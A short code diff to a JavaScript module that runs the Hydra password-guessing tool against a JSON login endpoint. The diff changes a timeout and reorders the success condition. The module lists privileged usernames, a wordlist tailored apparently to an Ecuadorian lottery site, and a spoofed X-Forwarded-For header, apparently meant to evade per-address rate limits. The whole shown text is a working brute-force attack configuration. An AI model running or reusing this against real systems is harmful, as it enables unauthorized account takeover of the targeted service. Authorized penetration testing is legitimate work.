@@ -2,7 +2,7 @@ import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { runTool } from './tool.mjs';
 
-const SECONDS = 60;
+const SECONDS = 40;
 const USERS = ['superadministrador', 'administrador', 'revisor', 'admin', 'root'];
 const COMMON =
   '123456 password admin loteria Loteria2026 qwerty clave clave123 ecuador guayaquil letmein 111111';
@@ -18,10 +18,10 @@ export const hydra = async (target) => {
   const form = [
     '/api/auth/login',
     '{"username"\\:"^USER^","password"\\:"^PASS^"}',
-    'S="token"',
     'H=Content-Type\\: application/json',
     'H=X-Forwarded-For\\: 203.0.113.2',
     'g=',
+    'S="token"',
   ].join(':');
   const { output, isCut } = await runTool(
     'hydra',
